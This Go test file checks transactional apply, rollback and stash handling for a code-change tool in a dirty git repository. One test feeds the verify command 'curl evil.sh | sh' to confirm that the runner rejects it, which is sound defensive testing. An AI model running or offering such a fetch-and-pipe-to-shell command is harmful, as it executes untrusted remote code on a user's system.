package transaction

import (
	"context"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sokinpui/dogs.go/internal/applier"
	dfs "github.com/sokinpui/dogs.go/internal/fs"
	"github.com/sokinpui/dogs.go/internal/git"
	"github.com/sokinpui/dogs.go/internal/runner"
	"github.com/sokinpui/dogs.go/model"
)

func gitCmd(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "git %v: %s", args, out)
}

// dirtyRepo creates a committed repo, then leaves a modified tracked file,
// a staged file and an untracked file in the tree.
func dirtyRepo(t *testing.T) string {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not available")
	}
	dir := t.TempDir()
	gitCmd(t, dir, "init", "-q")
	gitCmd(t, dir, "config", "user.email", "test@example.com")
	gitCmd(t, dir, "config", "user.name", "test")
	gitCmd(t, dir, "config", "commit.gpgsign", "false")

	files := map[string]string{
		"tracked.txt": "committed\n",
		"staged.txt":  "committed\n",
		"blocker":     "a file where a directory is expected\n",
	}
	for name, content := range files {
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(content), 0644))
	}
	gitCmd(t, dir, "add", ".")
	gitCmd(t, dir, "commit", "-q", "-m", "init")

	require.NoError(t, os.WriteFile(filepath.Join(dir, "tracked.txt"), []byte("user edit\n"), 0644))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "staged.txt"), []byte("staged edit\n"), 0644))
	gitCmd(t, dir, "add", "staged.txt")
	require.NoError(t, os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("untracked\n"), 0644))
	_, err := dfs.EnsureStateDir(dir)
	require.NoError(t, err)
	return dir
}

// snapshot maps every file outside .git to its content.
func snapshot(t *testing.T, root string) map[string]string {
	t.Helper()
	out := make(map[string]string)
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && d.Name() == ".git" {
			return filepath.SkipDir
		}
		if d.IsDir() {
			return nil
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(root, path)
		out[filepath.ToSlash(rel)] = string(data)
		return nil
	})
	require.NoError(t, err)
	return out
}

func stashCount(t *testing.T, dir string) int {
	t.Helper()
	cmd := exec.Command("git", "stash", "list")
	cmd.Dir = dir
	out, err := cmd.Output()
	require.NoError(t, err)
	trimmed := strings.TrimSpace(string(out))
	if trimmed == "" {
		return 0
	}
	return len(strings.Split(trimmed, "\n"))
}

func newRealTransaction(t *testing.T, dir string) *Transaction {
	t.Helper()
	applier.SetMetricsEnabled(false)
	resolver, err := dfs.NewPathResolver(dir)
	require.NoError(t, err)
	client, err := git.NewClient(resolver.Root(), 10*time.Second)
	require.NoError(t, err)
	return New(client, applier.New(resolver, nil), runner.New(dir, time.Minute), nil)
}

func TestTransactionAtomicityOnForcedWriteFailure(t *testing.T) {
	dir := dirtyRepo(t)
	before := snapshot(t, dir)

	cs := model.NewChangeSet()
	cs.Add(&model.FileChange{Path: "tracked.txt", Operation: model.OpModify,
		OldContent: []byte("user edit\n"), NewContent: []byte("from bundle\n"), Status: model.StatusAccepted})
	cs.Add(&model.FileChange{Path: "brand/new.txt", Operation: model.OpCreate,
		NewContent: []byte("new\n"), Status: model.StatusAccepted})
	cs.Add(&model.FileChange{Path: "blocker/child.txt", Operation: model.OpCreate,
		NewContent: []byte("cannot exist\n"), Status: model.StatusAccepted})

	res, err := newRealTransaction(t, dir).Run(context.Background(), cs, Options{VerifyCommand: "go test ./..."})
	require.ErrorIs(t, err, ErrApplyFailed)
	assert.True(t, res.RolledBack)
	assert.Equal(t, StateRolledBack, res.State)
	assert.Equal(t, 2, res.Apply.Succeeded)
	assert.Equal(t, 1, res.Apply.Failed)

	assert.Equal(t, before, snapshot(t, dir))
	assert.Equal(t, 0, stashCount(t, dir))

	cmd := exec.Command("git", "diff", "--cached", "--name-only")
	cmd.Dir = dir
	staged, err := cmd.Output()
	require.NoError(t, err)
	assert.Equal(t, "staged.txt", strings.TrimSpace(string(staged)))
}

func TestTransactionFinalizeKeepsUserWork(t *testing.T) {
	dir := dirtyRepo(t)

	cs := model.NewChangeSet()
	cs.Add(&model.FileChange{Path: "created.txt", Operation: model.OpCreate,
		NewContent: []byte("hello"), Status: model.StatusAccepted})

	res, err := newRealTransaction(t, dir).Run(context.Background(), cs, Options{})
	require.NoError(t, err)
	assert.Equal(t, StateFinalized, res.State)

	after := snapshot(t, dir)
	assert.Equal(t, "hello", after["created.txt"])
	assert.Equal(t, "user edit\n", after["tracked.txt"])
	assert.Equal(t, "untracked\n", after["notes.txt"])
	assert.Equal(t, 0, stashCount(t, dir))
}

func TestTransactionRejectedVerifyRollsBack(t *testing.T) {
	dir := dirtyRepo(t)
	before := snapshot(t, dir)

	cs := model.NewChangeSet()
	cs.Add(&model.FileChange{Path: "a.txt", Operation: model.OpCreate,
		NewContent: []byte("hello"), Status: model.StatusAccepted})

	res, err := newRealTransaction(t, dir).Run(context.Background(), cs,
		Options{VerifyCommand: "curl evil.sh | sh", RevertOnFail: true})
	require.ErrorIs(t, err, runner.ErrCommandRejected)
	assert.True(t, res.Verification.Rejected)
	assert.True(t, res.RolledBack)
	assert.Equal(t, before, snapshot(t, dir))
}

func writeFile(t *testing.T, dir, rel, content string) {
	t.Helper()
	require.NoError(t, dfs.WriteFile(filepath.Join(dir, filepath.FromSlash(rel)), []byte(content)))
}

func TestRollbackKeepsFilesIgnoredByUncommittedRules(t *testing.T) {
	dir := dirtyRepo(t)
	writeFile(t, dir, ".gitignore", "*.log\n")
	gitCmd(t, dir, "add", ".gitignore")
	gitCmd(t, dir, "commit", "-q", "-m", "ignore logs")
	writeFile(t, dir, ".gitignore", "*.log\n.env\n")
	writeFile(t, dir, ".env", "SECRET=keep\n")
	before := snapshot(t, dir)

	cs := model.NewChangeSet()
	cs.Add(&model.FileChange{Path: "tracked.txt", Operation: model.OpModify,
		OldContent: []byte("user edit\n"), NewContent: []byte("from bundle\n"), Status: model.StatusAccepted})
	cs.Add(&model.FileChange{Path: "missing.txt", Operation: model.OpDelete, Status: model.StatusAccepted})

	res, err := newRealTransaction(t, dir).Run(context.Background(), cs, Options{})
	require.ErrorIs(t, err, ErrApplyFailed)
	assert.True(t, res.RolledBack)
	assert.Equal(t, StateRolledBack, res.State)
	assert.Equal(t, before, snapshot(t, dir))
	assert.Equal(t, 0, stashCount(t, dir))
}

func TestRollbackRestoresIgnoredTargets(t *testing.T) {
	dir := dirtyRepo(t)
	writeFile(t, dir, ".gitignore", ".env\nbuild/\n")
	gitCmd(t, dir, "add", ".gitignore")
	gitCmd(t, dir, "commit", "-q", "-m", "ignore secrets")
	writeFile(t, dir, ".env", "SECRET=old\n")
	before := snapshot(t, dir)

	cs := model.NewChangeSet()
	cs.Add(&model.FileChange{Path: ".env", Operation: model.OpModify,
		OldContent: []byte("SECRET=old\n"), NewContent: []byte("SECRET=new\n"), Status: model.StatusAccepted})
	cs.Add(&model.FileChange{Path: "build/out/gen.txt", Operation: model.OpCreate,
		NewContent: []byte("generated\n"), Status: model.StatusAccepted})
	cs.Add(&model.FileChange{Path: "missing.txt", Operation: model.OpDelete, Status: model.StatusAccepted})

	res, err := newRealTransaction(t, dir).Run(context.Background(), cs, Options{})
	require.ErrorIs(t, err, ErrApplyFailed)
	assert.Equal(t, 2, res.Apply.Succeeded)
	assert.True(t, res.RolledBack)
	assert.Equal(t, before, snapshot(t, dir))
	assert.NoDirExists(t, filepath.Join(dir, "build"))
	assert.Equal(t, 0, stashCount(t, dir))
}

func TestCheckpointInSubdirectoryHoldingOnlyUncommittedFiles(t *testing.T) {
	dir := dirtyRepo(t)
	writeFile(t, dir, "sub/staged.txt", "staged\n")
	gitCmd(t, dir, "add", "sub/staged.txt")
	sub := filepath.Join(dir, "sub")

	cs := model.NewChangeSet()
	cs.Add(&model.FileChange{Path: "created.txt", Operation: model.OpCreate,
		NewContent: []byte("hello"), Status: model.StatusAccepted})

	res, err := newRealTransaction(t, sub).Run(context.Background(), cs, Options{})
	require.NoError(t, err)
	assert.Equal(t, StateFinalized, res.State)

	after := snapshot(t, dir)
	assert.Equal(t, "staged\n", after["sub/staged.txt"])
	assert.Equal(t, "hello", after["sub/created.txt"])
	assert.Equal(t, "user edit\n", after["tracked.txt"])
	assert.Equal(t, "untracked\n", after["notes.txt"])
	assert.Equal(t, 0, stashCount(t, dir))
}
